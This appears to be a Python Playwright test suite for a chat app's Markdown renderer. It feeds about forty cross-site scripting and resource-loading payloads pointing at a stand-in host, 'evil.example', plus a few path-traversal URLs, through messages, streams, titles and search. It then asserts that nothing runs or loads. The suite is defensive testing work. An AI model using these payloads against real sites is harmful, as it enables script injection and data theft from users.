"""Model text is data: forty ways to smuggle a script or a request into the page, through every door that text has."""

from __future__ import annotations

import json
from typing import Any
from uuid import UUID

import asyncpg
import httpx
from browsing import Somebody, answered, answers, ask
from nodes import Node
from playwright.async_api import Page, Route, expect

EVIL = "http://evil.example"
PAYLOADS = (
    # HTML
    "<script>hit()</script>",
    f"<script src={EVIL}/x.js></script>",
    "<img src=x onerror=hit()>",
    f'<img src="{EVIL}/pixel.png">',
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    '<svg><a xlink:href="javascript:hit()"><text y="20">click</text></a></svg>',
    f'<svg><image href="{EVIL}/i.png"/></svg>',
    f'<svg><use href="{EVIL}/u.svg#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    f"<iframe src={EVIL}></iframe>",
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    f"<object data={EVIL}/o.swf></object>",
    f"<embed src={EVIL}/e.svg>",
    f'<link rel="stylesheet" href="{EVIL}/s.css">',
    f'<link rel="prefetch" href="{EVIL}/p">',
    f"<style>@import url({EVIL}/i.css); body {{ background: url({EVIL}/b.png) }}</style>",
    f'<p style="background: url({EVIL}/c.png)">styled</p>',
    f'<meta http-equiv="refresh" content="0; url={EVIL}">',
    f'<base href="{EVIL}/">',
    f'<form action="{EVIL}"><button autofocus>send</button></form>',
    "<details open ontoggle=hit()><summary>x</summary></details>",
    "<input autofocus onfocus=hit()>",
    f'<video src="{EVIL}/v.mp4" poster="{EVIL}/p.png" autoplay></video>',
    f'<audio src="{EVIL}/a.mp3" autoplay onerror=hit()></audio>',
    "<body onload=hit()>",
    "<a href=javascript:hit()>raw link</a>",
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    "<template><img src=x onerror=hit()></template>",
    # Markdown
    "[a link](javascript:hit())",
    '[a link](  JaVaScRiPt&#58;hit() "title" )',
    "[a link](data:text/html,<script>hit()</script>)",
    "[a link](vbscript:hit())",
    "<javascript:hit()>",
    f"![remote]({EVIL}/remote.png)",
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhpdCgpIi8+)",
    f"![by reference][r]\n\n[r]: {EVIL}/reference.png \"' onerror='hit()\"",
    "[x]: javascript:hit()\n\n[by reference][x]",
    "```html\n<img src=x onerror=hit()>\n</code></pre><script>hit()</script>\n```",
    "`</code><script>hit()</script>` and | <img src=x onerror=hit()> |\n| - |\n| <svg/onload=hit()> |",
)
# Everything that text may become. An icon is an svg with one path.
ALLOWED = (
    "a article b blockquote br button code del details div em h1 h3 h4 h5 h6 hr img kbd li mark ol p path pre small "
    "span strong sub summary sup svg table tbody td th thead time tr u ul"
)
FINDINGS = """(allowed) => {
  const bad = [];
  const names = new Set(allowed.split(' '));
  const active = ['srcdoc', 'style', 'formaction', 'xlink:href'];
  const leading = ['href', 'src', 'action', 'poster', 'data'];
  const harmless = /^(https?:|mailto:|#|\\/assets\\/|data:image\\/(png|jpeg|gif|webp);)/;
  for (const element of document.querySelectorAll('.messages *, .chat-list *, .topbar *, .results *, .person *')) {
    if (!names.has(element.localName)) bad.push(element.localName);
    for (const {name, value} of element.attributes) {
      if (name.startsWith('on') || active.includes(name)) bad.push(name);
      if (leading.includes(name) && !harmless.test(value)) bad.push(value);
    }
    const foreign = element.localName === 'a' && element.host !== location.host;
    if (foreign && !/noopener noreferrer/.test(element.rel)) bad.push('rel');
  }
  return bad;
}"""


async def arm(person: Somebody) -> list[str]:
    """What was hit: stays empty if no script of a payload ran."""
    hits: list[str] = []
    await person.context.expose_function("hit", lambda *_: hits.append("a script ran"))
    person.context.on("dialog", lambda dialog: hits.append(dialog.message))
    return hits


async def require_clean(page: Page, hits: list[str]) -> None:
    """The fixture adds: no request left the origin, and nothing had to be stopped by the policy either."""
    await page.wait_for_timeout(150)
    assert await page.evaluate(FINDINGS, ALLOWED) == []
    assert hits == []


async def test_stored_messages(ada: Somebody, sql: asyncpg.Connection[Any]) -> None:
    hits = await arm(ada)
    page = await ada.arrive()
    user = await whoami(ada)
    for number, payload in enumerate(PAYLOADS):
        if number % 20 == 0:
            chat: UUID = await sql.fetchval(
                "INSERT INTO chats (id, user_id, title, title_source, last_sequence) "
                "VALUES (gen_random_uuid(), $1, $2, 'user', 1000) RETURNING id",
                user,
                payload,
            )
            parent = None
        for offset, role in enumerate(("user", "assistant")):
            parent = await sql.fetchval(
                "INSERT INTO messages "
                "(id, chat_id, user_id, parent_id, sequence_number, role, content, reasoning, model) "
                "VALUES (gen_random_uuid(), $1, $2, $3, $4, $5, $6, $7, $8) RETURNING id",
                chat,
                user,
                parent,
                number * 2 + offset + 1,
                role,
                payload,
                payload if role == "assistant" else "",
                payload if role == "assistant" else "",
            )
        if number % 20 == 19:
            await sql.execute("UPDATE chats SET leaf_id = $2 WHERE id = $1", chat, parent)
            await page.goto(f"{ada.base}/#/c/{chat}")
            await expect(page.locator("article")).to_have_count(40)
            for details in await page.locator("details").all():
                await details.evaluate("element => { element.open = true; }")
            await require_clean(page, hits)
    texts = await page.locator(".bubble").all_text_contents()
    assert texts == list(PAYLOADS[20:])


async def test_streamed_answers(ada: Somebody) -> None:
    """Character by character, so that every half-finished tag and link is on the page once."""
    hits = await arm(ada)
    page = await ada.arrive()

    async def poisoned(route: Route) -> None:
        generation = route.request.url.split("/")[-2]
        text = "\n\n".join(PAYLOADS)
        pieces = [text[start : start + 5] for start in range(0, len(text), 5)]
        events: list[dict[str, Any]] = [
            {"type": "start", "model": PAYLOADS[0]},
            {"type": "notice", "code": "fallback", "data": {"model": PAYLOADS[2]}},
            {"type": "title", "content": PAYLOADS[2]},
            *({"type": "reasoning", "content": piece} for piece in pieces),
            *({"type": "token", "content": piece} for piece in pieces),
            {"type": "error", "error": PAYLOADS[2], "code": PAYLOADS[2], "content": text, "status": "interrupted"},
        ]
        lines = [f"id: {generation}.{number}\ndata: {json.dumps(event)}\n\n" for number, event in enumerate(events)]
        await route.fulfill(content_type="text/event-stream", body="".join(lines))

    await page.route("**/generations/*/stream", poisoned)
    await ask(page, "[[rate=0 tokens=3]]")
    await answered(page)
    await require_clean(page, hits)
    await expect(answers(page)).to_contain_text("<img src=x onerror=hit()>")


async def test_growing_answer(ada: Somebody) -> None:
    """Each payload one character at a time, as a slow model would write it."""
    hits = await arm(ada)
    page = await ada.arrive()
    await page.evaluate(
        """async (payloads) => {
          const {MarkdownView} = await import('/assets/js/markdown.js');
          for (const payload of payloads) {
            const root = document.querySelector('.messages').appendChild(document.createElement('div'));
            const view = new MarkdownView(root);
            for (let end = 1; end <= payload.length; end += 1) view.show(payload.slice(0, end));
            view.show(payload, true);
          }
        }""",
        list(PAYLOADS),
    )
    await require_clean(page, hits)


async def test_titles_names_and_search_hits(ada: Somebody, sql: asyncpg.Connection[Any]) -> None:
    hits = await arm(ada)
    page = await ada.arrive()
    user = await whoami(ada)
    await sql.execute("UPDATE users SET username = $2 WHERE id = $1", user, " ".join(PAYLOADS))
    await sql.executemany(
        "INSERT INTO chats (id, user_id, title, title_source) VALUES (gen_random_uuid(), $1, $2, 'user')",
        [(user, payload) for payload in PAYLOADS],
    )
    await page.reload()
    await page.locator(".side-scroll").evaluate("element => element.scrollTo(0, element.scrollHeight)")
    await expect(page.locator(".chat-row")).to_have_count(len(PAYLOADS))
    await require_clean(page, hits)
    await page.locator(".chat-link").first.click()
    row = page.locator(".chat-row").first
    await row.get_by_role("button").click()
    await page.get_by_role("menuitem", name="Delete").click()
    await expect(page.get_by_role("dialog")).to_be_visible()
    await require_clean(page, hits)
    await page.keyboard.press("Escape")
    await page.get_by_role("searchbox").fill("hit")
    await expect(page.locator(".result").first).to_be_visible()
    await require_clean(page, hits)


async def test_remote_image_is_named_not_loaded(ada: Somebody) -> None:
    page = await ada.arrive()
    await page.evaluate(
        """async (text) => {
          const {MarkdownView} = await import('/assets/js/markdown.js');
          const root = document.querySelector('.messages').appendChild(document.createElement('div'));
          new MarkdownView(root).show(text, true);
          document.querySelector('.thread-frame').hidden = false;
        }""",
        f"![A chart]({EVIL}/chart.png)",
    )
    card = page.get_by_role("link", name="A chart")
    await expect(card).to_contain_text("Remote image, not loaded · evil.example")
    assert await card.get_attribute("rel") == "noopener noreferrer nofollow ugc"
    assert await page.locator(".messages img").count() == 0


async def test_link_that_pretends_to_lead_elsewhere_shows_where_it_leads(ada: Somebody) -> None:
    page = await ada.arrive()
    shown = await page.evaluate(
        """async (text) => {
          const {MarkdownView} = await import('/assets/js/markdown.js');
          const root = document.createElement('div');
          new MarkdownView(root).show(text, true);
          return root.textContent;
        }""",
        f"[https://bank.example]({EVIL}/login)",
    )
    assert shown == "https://bank.example (evil.example)"


async def test_html_cannot_be_parsed_anywhere_on_the_page(ada: Somebody) -> None:
    """Trusted Types without a single policy: the sinks throw, whoever reaches them."""
    page = await ada.page()
    thrown = await page.evaluate(
        """() => {
          const tries = [
            () => { document.createElement('div').innerHTML = '<b>x</b>'; },
            () => { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); },
            () => { new DOMParser().parseFromString('<b>x</b>', 'text/html'); },
            () => { document.createElement('script').text = 'hit()'; },
            () => { trustedTypes.createPolicy('mine', {createHTML: (text) => text}); },
          ];
          return tries.map((attempt) => {
            try { attempt(); return 'went through'; } catch (error) { return error.name; }
          });
        }"""
    )
    assert thrown == ["TypeError"] * 5
    ada.complaints = [text for text in ada.complaints if "Trusted" not in text and "trusted-types" not in text]


async def test_policy_of_the_page_is_strict(site: Node) -> None:
    async with httpx.AsyncClient(base_url=site.base) as client:
        for path in ("/", "/assets/js/app.js", "/assets/css/base.css", "/assets/icon.svg"):
            headers = (await client.get(path)).headers
            policy = headers["content-security-policy"]
            assert policy.startswith("default-src 'none'; script-src 'self'; style-src 'self'")
            assert "unsafe" not in policy
            assert headers["x-content-type-options"] == "nosniff"
            assert headers["referrer-policy"] == "no-referrer"
        for path in (
            "/assets/../main.py",
            "/assets/%2e%2e/main.py",
            "/assets/js",
            "/assets/vendor/README.md",
            "/assets/",
        ):
            assert (await client.get(path)).status_code in {400, 404}


async def whoami(person: Somebody) -> UUID:
    api = await person.api()
    await api.close()
    return UUID(api.user_id)
